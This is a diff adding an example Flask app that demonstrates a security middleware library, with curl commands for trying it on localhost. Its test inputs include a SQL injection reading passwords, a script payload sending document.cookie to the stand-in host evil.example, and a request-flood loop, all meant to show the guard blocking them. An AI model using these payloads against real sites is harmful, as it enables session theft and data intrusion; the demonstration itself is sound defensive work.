@@ -1,0 +1,73 @@
+"""A guarded Flask app to try things on: ``python examples/flask_app.py``, then the curl lines."""
+
+from __future__ import annotations
+
+from flask import Flask, jsonify, request
+from flask.typing import ResponseReturnValue
+
+from guard_wsgi_flask import FlaskAPIGuard, SecurityConfig, SecurityDecorator
+
+HOST, PORT = "127.0.0.1", 8000
+
+config = SecurityConfig(
+    rate_limit=60,  # sixty requests
+    rate_limit_window=60,  # a minute, for each client
+    security_headers="html",
+)
+guard = SecurityDecorator(config)
+app = Flask(__name__)
+
+
+@app.get("/")
+def home() -> ResponseReturnValue:
+    return "<h1>Hello</h1><p>This page is guarded.</p>"
+
+
+@app.get("/search")
+def search() -> ResponseReturnValue:
+    return jsonify(results=[], query=request.args.get("q", ""))
+
+
+@app.post("/comments")
+def comment() -> ResponseReturnValue:
+    posted = request.get_json()
+    return jsonify(saved=posted), 201
+
+
+@app.post("/login")
+@guard.rate_limit(5, window=60)
+@guard.honeypot_detection(["website"])  # hidden from people; programs fill it in
+def login() -> ResponseReturnValue:
+    return f"hello, {request.form.get('user', 'nobody')}"
+
+
+FlaskAPIGuard(app, config=config)
+
+
+def curl_lines(base: str) -> list[tuple[str, str]]:
+    """What to try, as (what happens, command)."""
+    json = f"curl -i {base}/comments -H 'Content-Type: application/json' -d"
+    script = "<script>fetch(`//evil.example?`+document.cookie)</script>"
+    return [
+        ("a normal page", f"curl -i {base}/"),
+        ("a harmless search", f"curl -i '{base}/search?q=select+a+union+rep'"),
+        (
+            "an injection in a query: 400",
+            f"curl -i '{base}/search?q=1%27+UNION+SELECT+password+FROM+users--'",
+        ),
+        ("a comment: 201", f"""{json} '{{"text": "thanks!"}}'"""),
+        ("one with an injection in its JSON: 400", f"""{json} '{{"text": "{script}"}}'"""),
+        ("a field that people can't see: 403", f"curl -i {base}/login -d website=x"),
+        (
+            "a flood: 200 up to the limit, then 429",
+            f"for i in $(seq 80); do curl -s -o /dev/null -w '%{{http_code}}\\n' {base}/; done"
+            " | sort | uniq -c",
+        ),
+    ]
+
+
+if __name__ == "__main__":
+    print(f"\nA guarded app on http://{HOST}:{PORT}/. In another terminal, try:\n")
+    for what, command in curl_lines(f"http://{HOST}:{PORT}"):
+        print(f"  # {what}\n  {command}\n")
+    app.run(host=HOST, port=PORT, threaded=True)
